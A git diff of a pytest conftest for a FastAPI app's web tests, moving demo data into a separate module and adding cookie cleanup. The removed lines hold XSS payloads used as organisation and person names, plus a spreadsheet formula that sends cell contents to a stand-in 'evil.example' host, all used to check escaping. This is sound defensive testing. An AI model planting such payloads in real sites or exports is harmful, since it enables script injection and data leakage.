@@ -1,57 +1,24 @@
-"""Web tests: the demo data loaded once per session, and a TestClient whose lifespan opens the driver.
-
-The demo gets one organisation and one person whose names carry markup, so every page shows
-whether user data is escaped.
+"""Web tests: users and tokens on the demo graph (tests/conftest.py), and a TestClient whose lifespan
+opens the driver. The demo's names carry markup (tests/demo.py), so every page shows whether user data
+is escaped.
 """
 
 from __future__ import annotations
 
-import dataclasses
-import datetime as dt
 from collections.abc import Callable, Iterator
 
 import pytest
 from fastapi import FastAPI
 from fastapi.testclient import TestClient
 
-from graph.demo_load import load_demo
 from graph.driver import Graph
-from graph.model import Dataset
 from graph.settings import Settings
 from graph.users import ROLES, add_user, create_token
-from ingest.synthetic.generator import generate
+from tests.demo import AS_OF, EVIL_ORG, EVIL_PERSON, FORMULA_BUDDY, demo_dataset
 from web.app import create_app
 
-AS_OF = dt.date(2025, 6, 1)
-EVIL_ORG = '<script>alert("org")</script> Taalcafé & Co'
-EVIL_PERSON = "<img src=x onerror=alert(1)> Fatima"
-# A spreadsheet formula as a buddy initiative's name, for the CSV downloads.
-FORMULA_BUDDY = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")'
-
-
-def demo_dataset() -> Dataset:
-    """Return the demo dataset (seed 1) with markup in the first organisation's and person's names
-    and a spreadsheet formula as a buddy initiative's name."""
-    data = generate("demo", 1)
-    data.organisations[0] = dataclasses.replace(data.organisations[0], name=EVIL_ORG)
-    data.people[0] = dataclasses.replace(data.people[0], name=EVIL_PERSON)
-    orgs = data.organisations
-    buddy = next(i for i, o in enumerate(orgs) if i and o.kind == "maatjesproject")
-    orgs[buddy] = dataclasses.replace(orgs[buddy], name=FORMULA_BUDDY)
-    return data
-
-
-@pytest.fixture(scope="session")
-def demo_data() -> Dataset:
-    """The dataset the web tests load."""
-    return demo_dataset()
-
-
-@pytest.fixture(scope="session")
-def demo_graph(session_graph: Graph, demo_data: Dataset) -> Graph:
-    """The suite's graph holding the demo dataset; loaded once for all web tests (they only read)."""
-    load_demo(session_graph, demo_data, seed=1, force=True)
-    return session_graph
+# The web tests import these from here.
+__all__ = ["AS_OF", "EVIL_ORG", "EVIL_PERSON", "FORMULA_BUDDY", "demo_dataset"]
 
 
 @pytest.fixture(scope="session")
@@ -65,9 +32,9 @@ def role_tokens(demo_graph: Graph) -> dict[str, str]:
 
 
 @pytest.fixture(scope="session")
-def web_app(demo_graph: Graph, settings: Settings) -> FastAPI:
-    """The app the web tests talk to."""
-    return create_app(settings)
+def web_app(demo_graph: Graph, demo_settings: Settings) -> FastAPI:
+    """The app the web tests talk to, on the demo's database."""
+    return create_app(demo_settings)
 
 
 @pytest.fixture(scope="session")
@@ -83,6 +50,16 @@ def client_as(client: TestClient, web_app: FastAPI,
     """Return a TestClient for a role (None = anonymous) on the running app of `client`."""
     return lambda role: TestClient(web_app, headers=bearer(role_tokens[role]) if role else {},
                                    follow_redirects=False)
+
+
+@pytest.fixture(autouse=True)
+def _no_cookies_from_other_tests(request: pytest.FixtureRequest) -> None:
+    """Start each test with the shared `client` free of cookies (language, session) an earlier test left.
+
+    Tests run in random order, and one that fails halfway never reaches its own clean-up.
+    """
+    if "client" in request.fixturenames:
+        request.getfixturevalue("client").cookies.clear()
 
 
 def bearer(token: str) -> dict[str, str]:
